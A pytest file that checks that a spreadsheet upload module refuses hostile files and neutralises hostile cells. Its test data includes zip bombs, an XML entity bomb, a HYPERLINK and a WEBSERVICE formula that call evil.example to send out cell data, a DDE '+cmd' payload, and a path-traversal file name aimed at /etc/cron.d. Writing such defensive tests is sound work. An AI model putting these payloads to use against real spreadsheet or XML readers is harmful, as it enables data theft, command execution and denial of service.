"""Sheets that mean harm: each gets a code and a sentence, in a child, in good time."""

import io
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from app.outcomes import refusal_sentences
from ingest.collect.sheet.checking import ProblemCode
from ingest.collect.sheet.intake import open_sheet, take_in_initiatives
from ingest.outcome import RefusalCode, Refused
from ingest.parse.cells import MOST_COLUMNS, MOST_ROWS
from knowledge.bootstrap import open_base
from knowledge.knowledge_base import KnowledgeBase
from knowledge.model.sheet import SheetField, SheetKind
from knowledge.settings import read_settings
from tests.ingest.collect.sheets import LESSONS, csv_of, ods_of, xlsx_of
from tests.ingest.parse.compound_file import compound_file
from tests.ingest.parse.files import zipped
from tests.samples import COORDINATOR

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BOMB = f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]><workbook>&l9;</workbook>'


def _far_apart() -> bytes:
    book = Workbook()
    book.active["A1"] = "Les"
    book.active["XFD1048576"] = "daar"
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    """Return an archive with one part in place of another."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            new.writestr(info, content if info.filename == name else old.read(info))
    return made.getvalue()


HOSTILE: dict[str, tuple[bytes, set[RefusalCode]]] = {
    "nothing": (b"", {RefusalCode.EMPTY}),
    "headers alone": (csv_of(LESSONS[:1]), {RefusalCode.COLUMNS}),
    "numbers alone": (csv_of(((1, 2, 3), (4, 5, 6))), {RefusalCode.COLUMNS}),
    "empty rows alone": (csv_of((("", ""),) * 50), {RefusalCode.EMPTY}),
    "too many rows": (
        csv_of((("Les", "x"), *((f"a{n}", "b") for n in range(MOST_ROWS + 5)))),
        {RefusalCode.TOO_LONG},
    ),
    "too many columns": (
        csv_of((["Les"] + ["x"] * (MOST_COLUMNS + 5), ["a"] * (MOST_COLUMNS + 6))),
        {RefusalCode.TOO_LONG},
    ),
    "a cell like a book": (
        csv_of((("Les", "x"), ("woord " * 20_000, "y"), ("z", "z"))), {RefusalCode.TOO_LONG},
    ),
    "a field that never ends": (
        b'Les;Plaats\n"' + b"a;b\n" * 400_000, {RefusalCode.DAMAGED, RefusalCode.TOO_LONG},
    ),
    "two cells far apart": (_far_apart(), {RefusalCode.TOO_BIG, RefusalCode.COLUMNS}),
    "xlsx that unpacks to far more": (
        _with_part(xlsx_of(LESSONS), "xl/worksheets/sheet1.xml", b"\0" * 60_000_000),
        {RefusalCode.BOMB},
    ),
    "ods that unpacks to far more": (
        _with_part(ods_of(LESSONS), "content.xml", b"\0" * 60_000_000), {RefusalCode.BOMB},
    ),
    "xlsx cut off": (xlsx_of(LESSONS)[:2_000], {RefusalCode.DAMAGED}),
    "xlsx of rubbish": (
        _with_part(xlsx_of(LESSONS), "xl/workbook.xml", b"<a>" * 1_000),
        {RefusalCode.DAMAGED, RefusalCode.EMPTY},
    ),
    "xlsx with an entity bomb": (
        _with_part(xlsx_of(LESSONS), "xl/workbook.xml", _BOMB.encode()),
        {RefusalCode.DAMAGED, RefusalCode.BOMB, RefusalCode.EMPTY},
    ),
    "locked": (
        compound_file({"EncryptedPackage": b"x" * 5_000, "EncryptionInfo": b"y"}),
        {RefusalCode.ENCRYPTED},
    ),
    "a zip of very many files": (
        zipped({f"{n}": "" for n in range(10_500)}, packing=zipfile.ZIP_STORED),
        {RefusalCode.BOMB, RefusalCode.DAMAGED},
    ),
    "a report instead": (b"%PDF-1.7\n%nothing", {RefusalCode.UNSUPPORTED}),
    "noise": (bytes(range(256)) * 400, {RefusalCode.UNSUPPORTED}),
}  # fmt: skip


@pytest.fixture
def base(tmp_path: Path) -> KnowledgeBase:
    return open_base(
        read_settings({"DOORWERK_DATA": str(tmp_path), "DOORWERK_EMBEDDER": "hashing"})
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_sheet_gets_a_definite_answer(base: KnowledgeBase, name: str) -> None:
    data, codes = HOSTILE[name]
    began = time.monotonic()

    with pytest.raises(Refused) as caught:
        open_sheet(base, data, file_name="lessen.csv", kind=SheetKind.LESSONS, by=COORDINATOR)

    what, do = refusal_sentences(caught.value.code, caught.value.data)
    assert caught.value.code in codes
    assert what
    assert do
    assert time.monotonic() - began < 90


def test_formulas_are_text_and_named(base: KnowledgeBase) -> None:
    hostile = ('=HYPERLINK("http://evil.example/?"&A1)', "+cmd|'/c calc'!A0", "@SUM(1)", "-2+3")
    data = csv_of((("Les", "Plaats"), *((cell, "Gent") for cell in hostile)))

    found = open_sheet(base, data, file_name="x.csv", kind=SheetKind.LESSONS, by=COORDINATOR)
    checked = found.checked(found.mapping)

    assert [row.cells[0] for row in checked.rows] == list(hostile)
    assert [problem.code for problem in checked.problems] == [ProblemCode.FORMULA] * 4


def test_a_formula_of_a_workbook_is_not_evaluated(base: KnowledgeBase) -> None:
    rows = (("Les", "Plaats"), ('=WEBSERVICE("http://evil.example/")', "Gent"), ("Deel.", "Gent"))

    found = open_sheet(
        base, xlsx_of(rows), file_name="x.xlsx", kind=SheetKind.LESSONS, by=COORDINATOR
    )

    assert not any("WEBSERVICE" in cell for row in found.sheet.rows for cell in row.cells)


def test_merged_headers_do_not_shift_the_columns(base: KnowledgeBase) -> None:
    rows = (
        ("Lessen en waar", None, None), ("Les", "Plaats", "Land"), ("Deel de sleutel.", "Gent", ""),
    )  # fmt: skip

    found = open_sheet(
        base,
        xlsx_of(rows, merge="A1:C1"),
        file_name="x.xlsx",
        kind=SheetKind.LESSONS,
        by=COORDINATOR,
    )

    assert found.mapping.columns[SheetField.PLACES] == (1,)
    assert len(found.sheet.rows) == 1


def test_two_columns_of_one_name_and_one_without_are_kept_apart(base: KnowledgeBase) -> None:
    rows = (("Les", "Les", ""), ("Deel de sleutel.", "Nog een.", "Derde."), ("Twee.", "", ""))

    found = open_sheet(
        base, csv_of(rows), file_name="x.csv", kind=SheetKind.LESSONS, by=COORDINATOR
    )

    assert found.mapping.columns[SheetField.STATEMENT] == (0,)
    assert found.sheet.headers == ("Les", "Les", "")


def test_a_name_with_path_parts_and_a_wrong_encoding_is_harmless(base: KnowledgeBase) -> None:
    data = csv_of((("Naam", "Land"), ("Bürgerbus; ../../etc", "Deutschland"))).decode()

    found = open_sheet(
        base,
        data.encode("latin-1"),
        file_name="../../../etc/cron.d/x.csv",
        kind=SheetKind.INITIATIVES,
        by=COORDINATOR,
    )
    take_in_initiatives(base, found, found.mapping, by=COORDINATOR)

    assert found.file_name == "x.csv"
    assert base.library.initiatives()[0].name == "Bürgerbus; ../../etc"
